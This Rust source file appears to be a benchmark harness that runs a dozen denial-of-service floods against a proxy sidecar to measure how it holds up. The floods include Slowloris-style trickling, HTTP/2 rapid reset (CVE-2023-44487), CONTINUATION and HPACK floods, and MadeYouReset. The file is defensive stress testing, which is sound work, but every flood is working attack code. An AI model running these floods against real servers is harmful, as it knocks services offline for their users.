//! What floods do. Each goes on until it is told to stop, and comes back when its connection was ended, a bounded number
//! of times in a second: what is measured is what the sidecar makes of it, and not how fast this machine is.

use std::{
    io::{ErrorKind, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::Duration,
};

use rustix::net::sockopt::set_socket_recv_buffer_size;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
    head, preface, request,
};
use crate::bench::backend;

/// Slow clients, all at once.
const SLOW: usize = 500;
/// Between two bytes of each.
const TRICKLE: Duration = Duration::from_millis(500);
/// Between two connections of a client that floods.
const AGAIN: Duration = Duration::from_millis(20);
/// Streams of a connection that takes nothing.
const STREAMS: u32 = 100;
/// What a client that has flooded waits for at most until it is told so.
const LISTEN: Duration = Duration::from_millis(200);

/// One kind of them.
#[derive(Clone, Copy)]
pub struct Flood {
    /// As in the report.
    pub name: &'static str,
    /// So many requests or connections it has at once; calm is beside as many.
    pub places: usize,
    /// Threads that do it.
    pub attackers: usize,
    /// Does it.
    pub attack: fn(SocketAddr, &AtomicBool),
}

const fn slow(name: &'static str, attack: fn(SocketAddr, &AtomicBool)) -> Flood {
    Flood { name, places: SLOW, attackers: 1, attack }
}

const fn fast(name: &'static str, places: usize, attack: fn(SocketAddr, &AtomicBool)) -> Flood {
    Flood { name, places, attackers: 2, attack }
}

/// All of them.
pub(super) const FLOODS: [Flood; 12] = [
    slow("heads that trickle", |address, stop| {
        trickle(address, stop, b"POST / HTTP/1.1\r\nHost: a\r\nX-Slow: ");
    }),
    slow("bodies that trickle", |address, stop| {
        let head = format!("POST {} HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n", backend::UPLOAD);
        trickle(address, stop, head.as_bytes());
    }),
    slow("slow reading", read_slowly),
    fast("connections that come and go", 16, come_and_go),
    fast("rapid reset (CVE-2023-44487)", 16, |address, stop| {
        flood(address, stop, &[], |number| {
            let stream = 2 * number + 1;
            [request(stream, backend::SMALL), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
        });
    }),
    fast("CONTINUATION without end (RUSTSEC-2024-0332)", 16, |address, stop| {
        let first = frame(HEADERS, END_STREAM, 1, &head("/"));
        flood(address, stop, &first, |_| frame(CONTINUATION, 0, 1, &field(100)));
    }),
    fast("MadeYouReset (CVE-2025-8671)", 16, |address, stop| {
        flood(address, stop, &[], |number| {
            let stream = 2 * number + 1;
            [request(stream, backend::SMALL), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
        });
    }),
    fast("pings", 16, |address, stop| flood(address, stop, &[], |_| frame(PING, 0, 0, &[0; 8]))),
    fast("settings", 16, |address, stop| {
        flood(address, stop, &[], |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]));
    }),
    fast("tiny pieces of uploads", 16, |address, stop| {
        let first = frame(HEADERS, END_HEADERS, 1, &head("/"));
        flood(address, stop, &first, |_| frame(DATA, 0, 1, b"x"));
    }),
    fast("heads that unpack (HPACK)", 16, |address, stop| {
        // The newest entry of the table is the first behind the 61 that are always there.
        let first = frame(HEADERS, END_STREAM, 1, &[head("/"), kept_field()].concat());
        flood(address, stop, &first, |_| frame(CONTINUATION, 0, 1, &[0xbe; 1000]));
    }),
    Flood {
        name: "streams without a window",
        places: 4 * STREAMS as usize,
        attackers: 4,
        attack: open_no_window,
    },
];

fn is_over(stop: &AtomicBool) -> bool {
    stop.load(Ordering::Relaxed)
}

/// A field of so many bytes, uncompressed.
fn field(length: u8) -> Vec<u8> {
    [&[0, 1, b'x', length][..], &vec![b'v'; usize::from(length)]].concat()
}

/// One of 3900 bytes, to be kept in the table.
fn kept_field() -> Vec<u8> {
    [&[0x40, 1, b'x', 0x7f, 0xbd, 0x1d][..], &[b'v'; 3900]].concat()
}

/// Many connections, each of which is looked at once in a [`TRICKLE`], one after the other: all at once they would be a
/// flood of another kind. What was ended is connected anew.
fn in_turn(stop: &AtomicBool, open: impl Fn() -> Option<TcpStream>, keep: impl Fn(&mut TcpStream) -> bool) {
    let mut slow: Vec<Option<TcpStream>> = (0..SLOW).map(|_| None).collect();
    while !is_over(stop) {
        for turn in slow.chunks_mut(SLOW / 50) {
            for place in turn {
                if !place.as_mut().is_some_and(&keep) {
                    *place = open();
                }
            }
            thread::sleep(TRICKLE / 50);
        }
    }
}

/// Sends a byte now and then.
fn trickle(address: SocketAddr, stop: &AtomicBool, first: &[u8]) {
    let open = || {
        let mut stream = TcpStream::connect(address).ok()?;
        stream.write_all(first).ok().map(|()| stream)
    };
    in_turn(stop, open, |stream| stream.write_all(b"x").is_ok());
}

/// Asks for far more than is taken, and takes little of it.
fn read_slowly(address: SocketAddr, stop: &AtomicBool) {
    let ask = format!("GET {} HTTP/1.1\r\nHost: a\r\n\r\n", backend::LARGE).repeat(20);
    let open = || {
        let mut stream = TcpStream::connect(address).ok()?;
        set_socket_recv_buffer_size(&stream, 4096).ok()?;
        stream.set_nonblocking(true).ok()?;
        stream.write_all(ask.as_bytes()).ok().map(|()| stream)
    };
    in_turn(stop, open, |stream| match stream.read(&mut [0; 64]) {
        Ok(read) => read > 0,
        Err(error) => error.kind() == ErrorKind::WouldBlock,
    });
}

fn come_and_go(address: SocketAddr, stop: &AtomicBool) {
    while !is_over(stop) {
        for number in 0..10 {
            let Ok(mut stream) = TcpStream::connect(address) else { continue };
            if number % 2 == 0 {
                // Whoever leaves at once has nothing to lose by an error.
                let _ = stream.write_all(b"GET / HT");
            }
        }
        thread::sleep(AGAIN);
    }
}

/// Sends what `attack` makes of each number until the connection is ended, and begins anew.
fn flood(address: SocketAddr, stop: &AtomicBool, first: &[u8], attack: fn(u32) -> Vec<u8>) {
    const AT_ONCE: u32 = 200;
    while !is_over(stop) {
        let Ok(mut stream) = TcpStream::connect(address) else { continue };
        let limited =
            stream.set_write_timeout(Some(LISTEN)).is_ok() && stream.set_read_timeout(Some(LISTEN)).is_ok();
        let mut alive = limited && stream.write_all(&[&preface(65535), first].concat()).is_ok();
        let mut number = 0;
        while alive && !is_over(stop) {
            let burst: Vec<u8> = (number..number + AT_ONCE).flat_map(attack).collect();
            number += AT_ONCE;
            alive = stream.write_all(&burst).is_ok();
            thread::sleep(AGAIN);
        }
        thread::sleep(AGAIN);
    }
}

/// Asks for an answer on every stream, and opens no window for any.
fn open_no_window(address: SocketAddr, stop: &AtomicBool) {
    let requests = (0..STREAMS).flat_map(|number| request(2 * number + 1, backend::LARGE));
    let wire = [preface(0), requests.collect()].concat();
    let Ok(mut stream) = TcpStream::connect(address) else { return };
    let sent = stream.write_all(&wire).is_ok();
    while sent && !is_over(stop) {
        thread::sleep(AGAIN);
    }
}
